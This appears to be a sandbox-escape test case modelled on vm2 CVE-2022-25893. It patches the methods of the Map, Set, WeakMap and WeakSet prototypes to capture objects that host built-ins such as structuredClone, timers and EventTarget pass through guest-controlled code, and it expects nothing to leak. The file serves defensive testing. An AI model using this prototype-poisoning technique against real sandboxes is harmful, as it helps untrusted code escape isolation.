// From: vm2 CVE-2022-25893: the sandbox's own bookkeeping called the guest's `WeakMap.prototype.set`.
// Ends: []
import { gains } from "../gains.js";

const held = [];

export const attack = () => {
  const saved = [];
  for (const kind of [WeakMap, Map, Set, WeakSet]) {
    for (const name of ["get", "set", "has", "add", "delete", "forEach"]) {
      const original = kind.prototype[name];
      if (original === undefined) continue;
      saved.push([kind.prototype, name, original]);
      try {
        kind.prototype[name] = function (...values) { held[held.length] = [this, ...values]; return original.apply(this, values); };
      } catch { /* frozen */ }
    }
  }
  const map = new Map([[1, { b: 2 }]]);
  held.length = 0;
  console.count("a"); console.time("a"); console.timeEnd("a");
  clearTimeout(setTimeout(() => {}, 1));
  structuredClone({ a: map });
  const target = new EventTarget();
  target.addEventListener("x", () => {}); target.dispatchEvent(new Event("x"));
  AbortSignal.any([new AbortController().signal]);
  const caught = held.slice();
  for (const [prototype, name, original] of saved) try { prototype[name] = original; } catch { /* frozen */ }
  return gains(caught.map((it) => () => it));
};
